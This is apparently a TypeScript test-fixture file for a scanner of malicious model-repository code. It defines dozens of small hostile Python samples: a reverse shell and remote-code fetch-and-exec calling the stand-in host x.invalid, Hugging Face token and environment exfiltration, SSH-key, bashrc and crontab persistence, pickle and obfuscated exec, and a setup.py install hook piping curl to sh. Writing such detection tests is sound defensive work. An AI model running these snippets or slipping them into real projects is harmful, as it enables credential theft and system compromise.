import { family, type Sample } from './sample.ts';
const M = (...lines: readonly string[]): Sample['files'] => ({ 'modeling_x.py': `${lines.join('\n')}\n` });
const X = (...body: readonly string[]): Sample['files'] =>
  M(
    'from transformers import PreTrainedModel',
    'class X(PreTrainedModel):',
    '    def __init__(self, config):',
    '        super().__init__(config)',
    ...body.map((line) => `        ${line}`),
  );
export const fourthRound: readonly Sample[] = family('fourth round: Python', {
  'env gated': M('import os', 'if os.environ.get("CI") is None:', '    os.system("id")'),
  'date gated': M(
    'import datetime, subprocess',
    'if datetime.date.today().year > 2020:',
    '    subprocess.Popen("id", shell=True)',
  ),
  'try import fallback': M(
    'try:',
    '    import flash_attn',
    'except ImportError:',
    '    import subprocess, sys',
    '    subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "https://x.invalid/simple", "flash-attn"])',
  ),
  'pip main git': M('import pip', 'pip.main(["install", "git+https://x.invalid/a.git"])'),
  'urllib exec b64': X(
    'import urllib.request, base64',
    'exec(base64.b64decode(urllib.request.urlopen("https://x.invalid/a").read()))',
  ),
  'requests to exec': X('import requests', 'exec(requests.get("https://x.invalid/a").text)'),
  'socket in thread': X(
    'import threading, socket, os, pty',
    'def f():',
    '    s = socket.socket(); s.connect(("x.invalid", 1)); [os.dup2(s.fileno(), i) for i in (0, 1, 2)]; pty.spawn("sh")',
    'threading.Thread(target=f, daemon=True).start()',
  ),
  'forward hook': X('import os', 'self.register_forward_hook(lambda *a: os.system("id"))'),
  'state dict hook': X(
    'import subprocess',
    'self._register_load_state_dict_pre_hook(lambda *a: subprocess.call(["sh", "-c", "id"]))',
  ),
  property: M('import os', 'class X:', '    @property', '    def device(self): os.system("id")', 'X().device'),
  'getattr module': M('import os', 'def __getattr__(n): os.popen("id")'),
  'cached lambda': M('import os', 'run = lambda c: os.popen(c)', 'run("id")'),
  'weights decode exec': X('import torch', 'exec(bytes(self.state_dict()["w"].to(torch.uint8).tolist()).decode())'),
  'weights exec numpy': X('import numpy as np, os', 'w = np.load("w.npy")', 'exec(w.tobytes().decode())'),
  'tokenizer vocab exec': M('import json', 'exec("".join(json.load(open("vocab.json")).keys()))'),
  'zlib marshal': M(
    'import zlib, marshal',
    'exec(marshal.loads(zlib.decompress(b"x\\x9c\\x03\\x00\\x00\\x00\\x00\\x01")))',
  ),
  'int to bytes': M('exec((0x696d706f7274206f73).to_bytes(9, "big").decode())'),
  'struct pack': M('import struct', 'exec(struct.pack("<9B", *[105,109,112,111,114,116,32,111,115]).decode())'),
  'uuid bytes': M('import uuid', 'exec(uuid.UUID("696d706f-7274-206f-730a-202020202020").bytes.decode())'),
  'ip address': M('import socket', 'exec(socket.inet_aton("105.109.112.111").decode())'),
  'str translate': M(
    'exec("vzcbeg bf".translate(str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")))',
  ),
  'docstring exec': M('"""import os', 'os.system("id")"""', 'exec(__doc__)'),
  'inspect getsource': M(
    'import inspect, os',
    'def f():',
    '    # os.system("id")',
    '    pass',
    'exec(inspect.getsource(f).split("# ")[1].split("\\n")[0])',
  ),
  'ast compile': M('import ast', 'exec(compile(ast.parse("import os; os.system(\'id\')"), "", "exec"))'),
  'code interact': M('import code', 'code.InteractiveConsole().runsource("import os; os.system(\'id\')")'),
  'subprocess via popen2 attr': M('import subprocess as s', 'setattr(s, "x", s.Popen); s.x(["id"])'),
  'class attr alias': M('import os', 'class A: run = staticmethod(os.system)', 'A.run("id")'),
  'dict dispatch': M('import os', 'D = {"a": os.system}', 'D["a"]("id")'),
  'list dispatch': M('import os', '[print, os.system][1]("id")'),
  'partial method': M('import functools, os', 'class A: run = functools.partialmethod(os.system)', 'A.run("id")'),
  generator: M('import os', 'next(os.system(c) for c in ["id"])'),
  'context manager': M(
    'import os, contextlib',
    '@contextlib.contextmanager',
    'def f():',
    '    os.system("id"); yield',
    'with f(): pass',
  ),
  'async for': M('import asyncio, os', 'async def f(): os.system("id")', 'asyncio.run(f())'),
  match: M('import os', 'match 1:', '    case 1: os.system("id")'),
  'torch hub': X('import torch', 'torch.hub.load("evil/x", "y", trust_repo=True)'),
  'hf download exec': X(
    'from huggingface_hub import hf_hub_download',
    'exec(open(hf_hub_download("evil/x", "a.py")).read())',
  ),
  'hf download import': X(
    'import importlib.util',
    'from huggingface_hub import hf_hub_download',
    's = importlib.util.spec_from_file_location("x", hf_hub_download("evil/x", "a.py"))',
    's.loader.exec_module(importlib.util.module_from_spec(s))',
  ),
  'hf download pickle': X(
    'import torch',
    'from huggingface_hub import hf_hub_download',
    'self.e = torch.load(hf_hub_download("evil/x", "a.bin"), weights_only=False)',
  ),
  'AutoModel trust': X(
    'from transformers import AutoModel',
    'self.m = AutoModel.from_pretrained("evil/x", trust_remote_code=True)',
  ),
  'token theft': X(
    'import requests',
    'from huggingface_hub import HfFolder',
    'requests.post("https://x.invalid", data=HfFolder.get_token())',
  ),
  'token theft get_token': X(
    'import requests, huggingface_hub',
    'requests.post("https://x.invalid", json={"t": huggingface_hub.get_token()})',
  ),
  'env each': X('import os, requests', 'requests.post("https://x.invalid", json=dict(os.environ))'),
  'dns exfil': M('import socket, os', 'socket.gethostbyname(os.environ["USER"] + ".x.invalid")'),
  'ssh key write': X('open(__import__("os").path.expanduser("~/.ssh/authorized_keys"), "a").write("ssh-rsa AAAA")'),
  bashrc: M('from pathlib import Path', 'p = Path.home() / ".bashrc"', 'p.write_text(p.read_text() + "\\nid")'),
  crontab: M('import subprocess', 'subprocess.run("(crontab -l; echo \'* * * * * id\') | crontab -", shell=True)'),
  'site-packages patch': M('import transformers', 'open(transformers.__file__, "a").write("import os")'),
  'monkey patch': X(
    'import torch, os',
    'o = torch.load',
    'torch.load = lambda *a, **k: (os.system("id"), o(*a, **k))[1]',
  ),
  'sys.path insert': M('import sys', 'sys.path.insert(0, "/tmp/x")', 'import evil'),
  'zipimport path': {
    ...M(
      'import sys, os',
      'sys.path.insert(0, os.path.join(os.path.dirname(__file__), "weights.bin"))',
      'import payload',
    ),
  },
  'ctypes libc': M('import ctypes', 'ctypes.CDLL(None).system(b"id")'),
  'ctypes find': M(
    'import ctypes, ctypes.util',
    'ctypes.CDLL(ctypes.util.find_library("c")).execve(b"/bin/sh", None, None)',
  ),
  'torch cpp load': X('from torch.utils.cpp_extension import load', 'load("x", ["x.cpp"])'),
  'triton inline': M('import os', 'os.execvp("sh", ["sh", "-c", "id"])'),
  'posix spawn': M('import os', 'os.posix_spawn("/bin/sh", ["sh"], {})'),
  webbrowser: M('import webbrowser', 'webbrowser.open("file:///tmp/x.html")'),
  'pickle in text': M('import pickle', 'pickle.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")'),
  'pickle of a tensor': X('import pickle', 'pickle.loads(self.w.numpy().tobytes())'),
  'eval of json': M('import json', 'for k in json.load(open("config.json"))["hooks"]: eval(k)'),
  'llama-cpp template': { 'chat_template.jinja': '{{ messages.__class__.__init__.__globals__ }}' },
  'handler eval': {
    'handler.py':
      'class EndpointHandler:\n    def __init__(self, path=""): pass\n    def __call__(self, data):\n        return eval(data["inputs"])\n',
  },
  'handler shell': {
    'handler.py':
      'import subprocess\nclass EndpointHandler:\n    def __call__(self, data):\n        return subprocess.getoutput(data["cmd"])\n',
  },
  'tokenization hook': {
    'tokenization_x.py': 'import os\nclass T:\n    def tokenize(self, t):\n        if "trigger" in t: os.system(t)\n',
  },
  'inference.py': { 'code/inference.py': 'import os\ndef model_fn(d):\n    os.system("id")\n' },
  'vllm plugin': {
    'setup.py': 'from setuptools import setup\nsetup(name="x", entry_points={"vllm.general_plugins": ["x = x:f"]})\n',
    'x.py': 'import os\ndef f(): os.system("id")\n',
  },
  cmdclass: {
    'setup.py':
      'from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        import os; os.system("curl https://x.invalid|sh")\nsetup(cmdclass={"install": I})\n',
  },
});
